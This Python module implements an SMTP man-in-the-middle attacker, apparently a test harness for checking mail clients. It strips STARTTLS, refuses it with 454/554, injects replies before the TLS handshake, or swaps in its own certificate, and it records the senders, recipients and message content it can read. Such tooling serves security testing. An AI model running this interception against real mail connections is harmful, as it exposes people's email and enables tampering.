"""A man in the middle on the SMTP connection: he can read and change everything that is not authenticated.

strip    takes STARTTLS out of the EHLO reply
swap     lets STARTTLS happen, with himself and his own certificate as the server
454/554  answers STARTTLS with that code
inject   writes replies of his own behind the 220 to STARTTLS, before the handshake
"""

import socket
import ssl
import threading

REFUSALS = {"454": b"454 4.7.0 TLS not available\r\n", "554": b"554 5.7.0 TLS not available\r\n"}


class Attacker:
    """Listens where the victim's clients believe the victim to be. `seen` is all that clients said to him in a way
    he could read."""

    def __init__(self, address: str, port: int, how: str, target: tuple[str, int], identity):
        self.how, self.target, self.identity = how, target, identity
        self.seen: list[bytes] = []
        self.connections = 0
        self.listener = socket.create_server((address, port))
        threading.Thread(target=self._accept, daemon=True).start()

    def learned(self) -> bool:
        """Whether he learned anything of a message: sender, recipient or content."""
        said = b"".join(self.seen).upper()
        return any(verb in said for verb in (b"MAIL FROM", b"RCPT TO", b"DATA", b"BDAT", b"SUBJECT"))

    def clear(self):
        """Forgets what he heard."""
        self.seen.clear()
        self.connections = 0

    def _accept(self):
        while True:
            client, _ = self.listener.accept()
            self.connections += 1
            threading.Thread(target=self._serve, args=(client,), daemon=True).start()

    def _serve(self, client: socket.socket):
        try:
            with client, socket.create_connection(self.target, timeout=60) as server:
                client.settimeout(60)
                self._relay(client, server)
        except (OSError, ssl.SSLError):
            pass  # whoever hangs up ends the attack

    def _relay(self, client, server):
        """Line by line: a reply from the server, a command from the client."""
        from_client, from_server = client.makefile("rb"), server.makefile("rb")
        client.sendall(self._reply(from_server))
        while line := from_client.readline():
            self.seen.append(line)
            if line.upper().startswith(b"STARTTLS") and self.how != "strip":
                if self.how in REFUSALS:
                    client.sendall(REFUSALS[self.how])
                    continue
                client, server = self._intercept(client, server, from_server)
                from_client, from_server = client.makefile("rb"), server.makefile("rb")
                continue
            server.sendall(line)
            reply = self._reply(from_server)
            client.sendall(reply)
            if line.upper().startswith(b"DATA") and reply.startswith(b"354"):
                self._content(from_client, server)
                client.sendall(self._reply(from_server))

    def _content(self, from_client, server):
        """Passes a message on, up to and with the final dot."""
        while line := from_client.readline():
            self.seen.append(line)
            server.sendall(line)
            if line == b".\r\n":
                return

    def _intercept(self, client, server, from_server):
        """Ends the client's TLS with his own key and starts another session with the server."""
        server.sendall(b"STARTTLS\r\n")
        self._reply(from_server)
        client.sendall(b"220 ready\r\n" + (b"250 injected\r\n" if self.how == "inject" else b""))
        outward = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        outward.check_hostname, outward.verify_mode = False, ssl.CERT_NONE
        return self.identity.server_context().wrap_socket(client, server_side=True), outward.wrap_socket(server)

    def _reply(self, from_server) -> bytes:
        """A whole reply, without the STARTTLS line when that is the attack."""
        lines = []
        while line := from_server.readline():
            lines.append(line)
            if line[3:4] != b"-":
                break
        # What he cannot follow (BDAT is not made of lines) or does not want, he does not let the client see.
        hidden = (b"CHUNKING", b"STARTTLS") if self.how == "strip" else (b"CHUNKING",)
        lines = [line for line in lines if line[4:].strip() not in hidden]
        if lines and lines[-1][3:4] == b"-":
            lines[-1] = lines[-1][:3] + b" " + lines[-1][4:]
        return b"".join(lines)
